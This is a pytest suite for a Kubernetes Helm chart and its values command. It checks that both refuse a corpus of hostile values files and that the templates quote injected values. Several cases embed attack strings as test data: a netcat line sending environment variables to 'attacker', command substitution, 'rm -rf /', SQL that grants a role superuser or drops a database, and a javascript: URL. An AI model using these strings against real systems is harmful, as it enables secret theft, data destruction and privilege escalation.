"""Hostile values: refused by real `helm template` AND by `simmate-k8s values`, nothing rendered.

Every case is a small values file an attacker (or a typo) could hand to either tool: injection
into names, labels, annotations, storageClass, tests.flow and extraEnv, wrong types, nulls, huge
values, unknown keys, `latest` tags. helm must exit non-zero with nothing on stdout; the values
command must exit 2 with one line on stderr and create no output file. The controls (defaults and
every profile) go through the same machinery and must be accepted, so the test can fail.

helm runs once per case in a small thread pool (a module fixture); the values command runs
in-process through click's CliRunner (the same click path as the binary), plus a few cases in a
real process.
"""

from __future__ import annotations

import inspect
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from simmate_k8s.values import PROFILES, model, schema
from simmate_k8s.values.command import values as values_command
from tests.chart.helpers import (
    CHART,
    CLOUD_PROFILES,
    REGISTRY_SET,
    ensure_dependencies,
    helm,
    render_chart,
)

BIG = "a" * 100_000
NL = "x\ninjected: true"
IMAGE_TAGS = [
    "image",
    "prefectServer.hasura.image",
    "prefectServer.graphql.image",
    "prefectServer.apollo.image",
    "prefectServer.towel.image",
    "prefectServer.ui.image",
    "postgresql.image",
    "daskOperator.crdUpgrade.image",
]


def at(path: str, value):
    """{"a": {"b": value}} from "a.b"."""
    for key in reversed(path.split(".")):
        value = {key: value}
    return value


def env(component: str, variables: dict) -> dict:
    return at(f"prefectServer.{component}.extraEnv", variables)


def worker(**keys) -> dict:
    return {"dask": {"worker": keys}}


def ingress(**keys) -> dict:
    return {"prefectServer": {"ingress": {"enabled": True, "host": "simmate.example.com", **keys}}}


def toleration(**keys) -> dict:
    return worker(tolerations=[{"operator": "Exists", **keys}])


# (id, values); each id says what the case attacks.
CASES = [
    # -- names
    ("nameOverride-newline", {"nameOverride": "x\nnamespace: kube-system"}),
    ("nameOverride-colon", {"nameOverride": "a:b"}),
    ("nameOverride-quotes", {"nameOverride": "a\"b'"}),
    ("nameOverride-template", {"nameOverride": "{{ .Release.Name }}"}),
    ("fullnameOverride-newline", {"fullnameOverride": "evil\n  namespace: kube-system"}),
    ("fullnameOverride-100kB", {"fullnameOverride": BIG}),
    ("fullnameOverride-space", {"fullnameOverride": "Bad Name"}),
    ("fullnameOverride-template", {"fullnameOverride": '{{ fail "x" }}'}),
    # -- labels
    ("label-value-newline", {"commonLabels": {"team": NL}}),
    ("label-value-100kB", {"commonLabels": {"team": BIG}}),
    ("label-value-64-chars", {"commonLabels": {"team": "a" * 64}}),
    ("label-value-colon", {"commonLabels": {"team": "a: b"}}),
    ("label-key-newline", {"commonLabels": {"a\nb": "x"}}),
    ("label-key-colon", {"commonLabels": {"a:b": "x"}}),
    ("label-key-template", {"commonLabels": {"{{x}}": "x"}}),
    ("label-value-int", {"commonLabels": {"team": 3}}),
    ("label-key-chart-selector", {"commonLabels": {"app.kubernetes.io/component": "postgresql"}}),
    ("label-key-network-peer", {"commonLabels": {"simmate-k8s.io/postgresql-client": "true"}}),
    ("podMonitor-label-chart-key", at("dask.scheduler.podMonitor.labels", {"helm.sh/chart": "x"})),
    ("labels-list-for-map", {"commonLabels": ["team"]}),
    ("podMonitor-label-newline", at("dask.scheduler.podMonitor.labels", {"release": NL})),
    ("nodeSelector-value-newline", worker(nodeSelector={"pool": NL})),
    ("nodeSelector-key-injection", worker(nodeSelector={"pool\nhostNetwork": "true"})),
    ("nodeSelector-100kB", at("postgresql.nodeSelector", {"pool": BIG})),
    # -- annotations
    ("ingress-annotation-100kB", ingress(annotations={"a": BIG})),
    ("ingress-annotation-key-newline", ingress(annotations={"a\nb": "x"})),
    ("service-annotation-key-space", at("prefectServer.apollo.service.annotations", {"a b": "x"})),
    (
        "service-annotations-too-many",
        at("prefectServer.ui.service.annotations", {f"k{i}": "v" for i in range(65)}),
    ),
    # -- storage
    (
        "storageClass-newline-extra-key",
        at("postgresql.persistence.storageClass", "fast\n        volumeMode: Block"),
    ),
    ("storageClass-quote", at("postgresql.persistence.storageClass", 'fast"')),
    ("storageClass-space", at("postgresql.persistence.storageClass", "Fast Disk")),
    ("persistence-size-junk", at("postgresql.persistence.size", "8Gi\nx: y")),
    ("persistence-size-huge-number", at("postgresql.persistence.size", "9" * 100 + "Gi")),
    # -- the helm test pod
    ("tests-flow-shell", {"tests": {"flow": "smoke; env | nc attacker 80 #"}}),
    ("tests-flow-subshell", {"tests": {"flow": "$(id)"}}),
    ("tests-flow-option", {"tests": {"flow": "--help"}}),
    ("tests-flow-newline", {"tests": {"flow": "smoke\nx"}}),
    # -- extraEnv: shadowing what the chart sets, invalid names, huge values
    ("extraEnv-HASURA_GRAPHQL_ADMIN_SECRET", env("hasura", {"HASURA_GRAPHQL_ADMIN_SECRET": "x"})),
    ("extraEnv-SIMMATE_DATABASE_URL", env("hasura", {"SIMMATE_DATABASE_URL": "x"})),
    ("extraEnv-PREFECT__CLOUD__API", env("ui", {"PREFECT__CLOUD__API": "http://evil"})),
    ("extraEnv-db-url", env("graphql", {"PREFECT_SERVER__DATABASE__CONNECTION_URL": "x"})),
    ("extraEnv-hasura-secret", env("towel", {"PREFECT_SERVER__HASURA__ADMIN_SECRET": "x"})),
    ("extraEnv-db-password", env("apollo", {"PREFECT_DB_PASSWORD": "x"})),
    ("extraEnv-HOME", env("ui", {"HOME": "/"})),
    ("extraEnv-name-space", env("apollo", {"A B": "x"})),
    ("extraEnv-name-digit", env("apollo", {"1X": "x"})),
    ("extraEnv-name-newline", env("apollo", {"X\n- name: Y": "x"})),
    ("extraEnv-value-100kB", env("apollo", {"X": BIG})),
    ("extraEnv-list", env("apollo", [{"name": "X", "value": "y"}])),
    # -- the security/probe cascade: only safe keys, only sane numbers
    ("securityContext-root", {"securityContext": {"runAsUser": 0}}),
    ("securityContext-root-group", at("prefectServer.hasura.securityContext", {"runAsGroup": 0})),
    ("securityContext-root-supplemental", at("dask.worker.securityContext",
                                             {"supplementalGroups": [0]})),
    ("securityContext-runAsNonRoot-false", {"securityContext": {"runAsNonRoot": False}}),
    ("securityContext-privileged", at("agent.securityContext", {"privileged": True})),
    ("securityContext-policy-typo", {"securityContext": {"fsGroupChangePolicy": "Sometimes"}}),
    ("probes-period-zero", at("probes.readiness", {"periodSeconds": 0})),
    ("probes-huge-delay", at("postgresql.probes.liveness", {"initialDelaySeconds": 10**9})),
    ("probes-exec-injection", at("prefectServer.ui.probes.liveness", {"exec": {"command": "sh"}})),
    # -- wrong types and nulls
    ("int-as-string", at("dask.autoscaler.maximum", "8")),
    ("replicas-as-string", at("prefectServer.hasura.replicas", "3")),
    ("bool-as-string", at("dask.enabled", "yes")),
    ("list-for-map", at("agent.jobPresets", ["default"])),
    ("map-for-list", at("dask.workerGroups", {"name": "x"})),
    ("tolerations-string", worker(tolerations="all")),
    ("null-prefectServer", {"prefectServer": None}),
    ("null-persistence", at("postgresql.persistence", None)),
    ("null-image", {"image": None}),
    ("null-resources", at("dask.worker.resources", None)),
    # -- huge values
    (
        "worker-replicas-1e8",
        {"dask": {"autoscaler": {"enabled": False}, "worker": {"replicas": 100_000_000}}},
    ),
    ("autoscaler-maximum-1e8", at("dask.autoscaler.maximum", 100_000_000)),
    ("apollo-replicas-1e6", at("prefectServer.apollo.replicas", 1_000_000)),
    ("tenant-name-100kB", at("prefectServer.tenant.name", BIG)),
    ("ui-apiUrl-100kB", at("prefectServer.ui.apiUrl", "http://a/" + BIG)),
    ("retention-days-1e9", at("prefectServer.retention.days", 1_000_000_000)),
    ("hooks-timeout-1e9", at("hooks.timeoutSeconds", 1_000_000_000)),
    (
        "cpu-100-digits",
        worker(
            resources={
                "requests": {"cpu": "1" * 100, "memory": "1Gi"},
                "limits": {"cpu": "1", "memory": "1Gi"},
            }
        ),
    ),
    ("nthreads-1e6", worker(nthreads=1_000_000)),
    # -- unknown keys
    ("unknown-top-level", {"evil": 1}),
    ("unknown-nested-command", at("prefectServer.hasura.command", ["sh", "-c", "id"])),
    ("unknown-securityContext", worker(securityContext={"privileged": True})),
    ("unknown-preset-key", at("agent.jobPresets.default.command", ["sh"])),
    # -- `latest`, for every image
    *[(f"latest-{path}", at(f"{path}.tag", "latest")) for path in IMAGE_TAGS],
    ("latest-prefectServer.version", at("prefectServer.version", "latest")),
    ("tag-newline", at("image.tag", "1.0\nx")),
    ("repository-space", at("image.repository", "evil repo")),
    ("repository-newline", at("postgresql.image.repository", "postgres\n  x: y")),
    ("pullPolicy-junk", at("image.pullPolicy", "Sometimes")),
    # -- services
    ("nodePort-80", at("prefectServer.apollo.service", {"type": "NodePort", "nodePort": 80})),
    ("nodePort-99999", at("prefectServer.ui.service", {"type": "NodePort", "nodePort": 99999})),
    ("service-type-junk", at("dask.scheduler.service.type", "ExternalName")),
    # -- image pull secrets
    ("imagePullSecrets-newline", {"imagePullSecrets": ["regcred\n  - name: other"]}),
    ("imagePullSecrets-object", {"imagePullSecrets": [{"name": "regcred"}]}),
    ("imagePullSecrets-quote", {"imagePullSecrets": ['reg"cred']}),
    # -- tolerations
    ("toleration-key-newline", toleration(key="a\nb")),
    ("toleration-value-newline", toleration(operator="Equal", key="a", value=NL)),
    ("toleration-effect-junk", toleration(effect="NoSchedule\nx")),
    ("toleration-operator-junk", toleration(operator="Always")),
    # -- ingress
    ("ingress-className-newline", ingress(className="nginx\n  rules: []")),
    ("ingress-className-quote", ingress(className='nginx"')),
    ("ingress-host-newline", ingress(host="a.example.com\n    - host: evil")),
    ("ingress-host-template", ingress(host="{{ .Release.Name }}")),
    (
        "ingress-auth-secret-newline",
        ingress(basicAuth={"enabled": True, "existingSecret": "auth\nfoo: bar"}),
    ),
    ("ingress-tls-secret-newline", ingress(tls=[{"secretName": "t\nx: y", "hosts": ["a"]}])),
    # -- databases and secrets
    ("resultsDatabase-equals-database", at("postgresql.resultsDatabase", "prefect")),
    ("database-sql", at("postgresql.database", "prefect; DROP DATABASE x")),
    ("username-newline", at("postgresql.username", "simmate\nx")),
    (
        "externalDatabase-host-injection",
        {
            "externalDatabase": {"host": "db/x?sslmode=disable", "existingSecret": "db"},
            "postgresql": {"enabled": False},
            "results": {"existingSecret": "r"},
        },
    ),
    ("existingSecret-newline", at("results.existingSecret", "r\nx: y")),
    ("role-name-sql", at("postgresql.roles.writer.name", 'w"; ALTER ROLE w SUPERUSER; --')),
    ("role-name-uppercase", at("postgresql.roles.reader.name", "Reader")),
    ("role-secret-newline", at("postgresql.roles.owner.existingSecret", "s\nx: y")),
    ("role-password-key-slash", at("postgresql.roles.prefect.passwordKey", "a/b")),
    ("schema-secret-newline", at("results.schema.existingSecret", "s\nx: y")),
    ("secret-key-slash", at("prefectServer.hasura.adminSecret.key", "a/b")),
    ("unauthorizedRole-newline", at("prefectServer.hasura.unauthorizedRole", "x\ny")),
    ("unauthorizedRole-100kB", at("prefectServer.hasura.unauthorizedRole", BIG)),
    # -- agent and Dask odds and ends
    ("agent-label-newline", at("agent.labels", ["a\nb"])),
    ("agent-apiUrl-scheme", at("agent.apiUrl", "javascript:alert(1)")),
    ("workerGroup-name", at("dask.workerGroups", [{"name": "Bad_Name"}])),
    ("memoryLimit-junk", worker(memoryLimit="1GiB; rm -rf /")),
    ("retention-schedule-junk", at("prefectServer.retention.schedule", "* * * * * ; x")),
    ("podMonitor-interval-newline", at("dask.scheduler.podMonitor.interval", "30s\nx")),
    (
        "jobPreset-name",
        at(
            "agent.jobPresets.Evil Name",
            {
                "resources": {
                    "requests": {"cpu": "1", "memory": "1Gi"},
                    "limits": {"cpu": "1", "memory": "1Gi"},
                }
            },
        ),
    ),
]
IDS = [case_id for case_id, _ in CASES]
# The top-level key each case attacks: both tools' messages must name it (refused for the right
# reason, not because something else broke).
TOP_KEY = {case_id: next(iter(values)) for case_id, values in CASES}


def profile_file(name: str) -> Path:
    return Path(inspect.getfile(model)).parent / "profiles" / f"{name}.yaml"


def write(tmp: Path, name: str, values) -> Path:
    path = tmp / f"{name}.yaml"
    path.write_text(yaml.safe_dump(values, sort_keys=False))
    return path


def helm_template(files: list[Path], sets: tuple[str, ...] = ()) -> subprocess.CompletedProcess:
    args = ["template", "hostile", str(CHART), "--namespace", "sim"]
    for path in files:
        args += ["-f", str(path)]
    for expression in sets:
        args += ["--set", expression]
    return helm(*args, check=False)


@pytest.fixture(scope="module")
def case_dir(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    return {case_id: write(tmp, case_id, values) for case_id, values in CASES}


@pytest.fixture(scope="module")
def helm_results(case_dir):
    """One real `helm template` per case, a few at a time."""
    ensure_dependencies()
    with ThreadPoolExecutor(max_workers=3) as pool:
        results = pool.map(lambda case_id: helm_template([case_dir[case_id]]), IDS)
        return dict(zip(IDS, results, strict=True))


def test_the_corpus_is_large_and_distinct():
    assert len(CASES) >= 60 and len(set(IDS)) == len(IDS)


@pytest.mark.parametrize("case_id", IDS)
def test_helm_refuses_and_renders_nothing(case_id, helm_results):
    result = helm_results[case_id]
    assert result.returncode != 0, f"helm rendered {case_id}"
    assert result.stdout.strip() == ""
    # helm v4 reports a bad map key ("invalid propertyName") at a wrong path: accept that too
    named = TOP_KEY[case_id] in result.stderr or "invalid propertyName" in result.stderr
    assert "Error" in result.stderr and named, result.stderr


@pytest.mark.parametrize("case_id", IDS)
def test_values_command_refuses_with_one_line(case_id, case_dir, tmp_path):
    out = tmp_path / "out.yaml"
    result = CliRunner().invoke(values_command, ["-f", str(case_dir[case_id]), "-o", str(out)])
    assert result.exit_code == 2, f"`simmate-k8s values` accepted {case_id}: {result.output}"
    assert result.stdout == ""
    [line] = result.stderr.strip().splitlines()
    assert line.startswith("Error: ") and len(line) < 1000, line
    assert TOP_KEY[case_id] in line, line
    assert "Traceback" not in result.output
    assert not out.exists() and not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    "case_id", ["tests-flow-shell", "extraEnv-HASURA_GRAPHQL_ADMIN_SECRET", "null-prefectServer"]
)
def test_values_command_refuses_in_a_real_process(case_id, case_dir, tmp_path):
    out = tmp_path / "out.yaml"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "simmate_k8s",
            "values",
            "-f",
            str(case_dir[case_id]),
            "-o",
            str(out),
        ],
        capture_output=True,
        text=True,
    )
    assert result.returncode == 2 and result.stdout == ""
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert not out.exists()


@pytest.mark.parametrize("profile", [None, *PROFILES])
def test_the_same_machinery_accepts_defaults_and_profiles(profile, tmp_path):
    """Controls: without them a broken chart or command would 'refuse' every case."""
    sets = (REGISTRY_SET,) if profile in CLOUD_PROFILES else ()
    files = [profile_file(profile)] if profile else []
    result = helm_template(files, sets)
    assert result.returncode == 0, result.stderr
    assert "kind: Deployment" in result.stdout
    out = tmp_path / "out.yaml"
    args = (["--profile", profile] if profile else []) + [
        arg for expression in sets for arg in ("--set", expression)
    ]
    written = CliRunner().invoke(values_command, [*args, "-o", str(out)])
    assert written.exit_code == 0, written.output
    # ... and what the command wrote installs.
    assert helm_template([out]).returncode == 0


@pytest.mark.parametrize(
    "name, content, words",
    [
        ("binary", b"\xff\xfe\x00\x81\x00", "is not a text file"),
        ("not-yaml", b"a: [\n  b: {\n", "is not valid YAML"),
        ("a-list", b"- 1\n- 2\n", "must hold a mapping of values, not list"),
        ("a-string", b"hello\n", "must hold a mapping of values, not str"),
        ("tabs", b"a:\n\t- b\n", "is not valid YAML"),
    ],
)
def test_unreadable_values_files_are_one_line(name, content, words, tmp_path):
    path = tmp_path / name
    path.write_bytes(content)
    out = tmp_path / "out.yaml"
    result = CliRunner().invoke(values_command, ["-f", str(path), "-o", str(out)])
    assert result.exit_code == 2 and words in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.output
    assert not out.exists()


def test_an_unreadable_file_is_one_line(tmp_path):
    (tmp_path / "file").write_text("a: 1\n")
    result = CliRunner().invoke(values_command, ["-f", str(tmp_path / "file" / "values.yaml")])
    assert result.exit_code == 2
    assert result.stderr.strip().endswith("values.yaml: Not a directory")
    assert len(result.stderr.strip().splitlines()) == 1


def test_errors_name_the_values_path():
    result = CliRunner().invoke(values_command, ["--set", "prefectServer=null"])
    assert result.stderr.strip() == (
        "Error: invalid values: prefectServer: must not be null (the chart needs a value)"
    )
    result = CliRunner().invoke(values_command, ["--set", "image.tag=latest"])
    assert "image.tag: `latest` is not allowed" in result.stderr


# ---------------------------------------------------------------- one rule set


def test_every_python_rule_is_in_the_schema():
    """No field_validator anywhere: a rule on one value is a schema constraint, or a `forbid`
    (which writes `not: {enum}` into the schema); the one model_validator is check_combinations,
    whose rules _validate.tpl repeats (tests/chart/test_validation.py)."""
    from tests.chart.test_values_schema import _models

    forbidden = []
    for cls in _models(model.ChartValues):
        decorators = cls.__pydantic_decorators__
        assert not decorators.field_validators, f"{cls.__name__} has a field_validator"
        assert set(decorators.model_validators) <= {"check_combinations"}, cls.__name__
        for info in cls.model_fields.values():
            forbidden += list(_after_validators(info.annotation, info.metadata))
    negated = [node["not"] for node in _nodes(schema.build_schema()) if "not" in node]
    assert len(forbidden) >= 3
    for check in forbidden:
        assert getattr(check, "schema_not", None), f"{check} is a Python-only rule"
        assert check.schema_not in negated


def _after_validators(annotation, metadata=()):
    """The functions of every AfterValidator on a field, its Annotated types and their args."""
    from typing import get_args

    from pydantic.functional_validators import AfterValidator

    for item in (*metadata, *getattr(annotation, "__metadata__", ())):
        if isinstance(item, AfterValidator):
            yield item.func
    for arg in get_args(annotation):
        if not isinstance(arg, AfterValidator):
            yield from _after_validators(arg)


def _nodes(node):
    if isinstance(node, dict):
        yield node
        for value in node.values():
            yield from _nodes(value)
    elif isinstance(node, list):
        for item in node:
            yield from _nodes(item)


def test_extra_env_cannot_name_any_variable_the_chart_sets():
    """model.CHART_ENV is the one list; it must hold every env name the chart renders."""
    docs = render_chart(
        {"prefectServer": {"retention": {"enabled": True}}, "daskOperator": {"upgradeCRDs": True}}
    )
    rendered = set(_env_names(docs))
    for doc in docs:
        if doc["kind"] == "ConfigMap" and doc["metadata"]["name"].endswith("-job-templates"):
            for key, text in doc["data"].items():
                if key.endswith(".yaml"):
                    rendered |= set(_env_names(yaml.safe_load(text)))
    assert rendered and rendered <= set(model.CHART_ENV), rendered - set(model.CHART_ENV)


def _env_names(node):
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "env" and isinstance(value, list):
                yield from (item["name"] for item in value if isinstance(item, dict))
            else:
                yield from _env_names(value)
    elif isinstance(node, list):
        for item in node:
            yield from _env_names(item)


# ---------------------------------------------------------------- templates, without the schema

INJECTED = "x\ninjected: true"


def test_templates_quote_every_value_even_without_the_schema(tmp_path):
    """Defence in depth: with `helm template --skip-schema-validation`, a newline in any of
    these values stays inside one string; no key is added anywhere (storageClass used to add
    keys to the PVC, tests.flow ran in `sh -c`)."""
    values = {
        "imagePullSecrets": [INJECTED],
        "commonLabels": {"team": INJECTED},
        "postgresql": {
            "persistence": {"storageClass": INJECTED, "size": INJECTED},
            "existingSecret": INJECTED,
            "passwordKey": INJECTED,
            "roles": {"writer": {"name": INJECTED, "existingSecret": INJECTED,
                                 "passwordKey": INJECTED}},
            "tolerations": [
                {"key": INJECTED, "operator": "Equal", "value": INJECTED, "effect": INJECTED}
            ],
        },
        "results": {"existingSecret": INJECTED, "key": INJECTED,
                    "schema": {"existingSecret": INJECTED, "key": INJECTED}},
        "prefectServer": {
            "hasura": {
                "extraEnv": {INJECTED: INJECTED},
                "adminSecret": {"existingSecret": INJECTED, "key": INJECTED},
            },
            "apollo": {"service": {"type": INJECTED, "allowExternal": True}},
            "ingress": {
                "enabled": True,
                "host": INJECTED,
                "className": INJECTED,
                "basicAuth": {"enabled": True, "existingSecret": INJECTED},
                "authProvidedElsewhere": True,  # a non-nginx class needs it (one rule)
            },
        },
        "image": {"pullPolicy": INJECTED},
        "tests": {"flow": INJECTED},
    }
    path = write(tmp_path, "inject", values)
    result = helm(
        "template",
        "hostile",
        str(CHART),
        "-f",
        str(path),
        "--skip-schema-validation",
        check=False,
    )
    assert result.returncode == 0, result.stderr
    docs = [doc for doc in yaml.safe_load_all(result.stdout) if doc]
    assert docs and not [path for path in _key_paths(docs) if path.endswith("injected")]
    by_kind = {(doc["kind"], doc["metadata"]["name"]): doc for doc in docs}
    pvc = next(d for (k, _), d in by_kind.items() if k == "StatefulSet")
    claim = pvc["spec"]["volumeClaimTemplates"][0]["spec"]
    assert claim["storageClassName"] == INJECTED
    pod = next(d for (k, _), d in by_kind.items() if k == "Pod")
    assert pod["spec"]["containers"][0]["args"][-1] == INJECTED
    assert pod["spec"]["imagePullSecrets"] == [{"name": INJECTED}]
    ingress_doc = next(d for (k, _), d in by_kind.items() if k == "Ingress")
    assert ingress_doc["spec"]["ingressClassName"] == INJECTED
    assert (
        ingress_doc["metadata"]["annotations"]["nginx.ingress.kubernetes.io/auth-secret"]
        == INJECTED
    )


def _key_paths(node, prefix=""):
    if isinstance(node, dict):
        for key, value in node.items():
            yield f"{prefix}/{key}"
            yield from _key_paths(value, f"{prefix}/{key}")
    elif isinstance(node, list):
        for index, item in enumerate(node):
            yield from _key_paths(item, f"{prefix}/{index}")


def test_set_escapes_dots_in_keys_like_helm():
    result = CliRunner().invoke(values_command, ["--set", r"commonLabels.team\.example\.com/x=y"])
    assert result.exit_code == 0, result.output
    assert yaml.safe_load(result.stdout)["commonLabels"] == {"team.example.com/x": "y"}
    result = CliRunner().invoke(values_command, ["--set", r"commonLabels.helm\.sh/chart=x"])
    assert result.exit_code == 2 and "is a label the chart sets itself" in result.stderr


def test_yaml_keys_are_strings_as_in_helm(tmp_path):
    """helm reads `1:` as the key "1"; so does the values command (both accept this label)."""
    path = tmp_path / "v.yaml"
    path.write_text("commonLabels: {1: x}\n")
    assert helm_template([path]).returncode == 0
    result = CliRunner().invoke(values_command, ["-f", str(path)])
    assert result.exit_code == 0, result.output
    assert yaml.safe_load(result.stdout)["commonLabels"] == {"1": "x"}
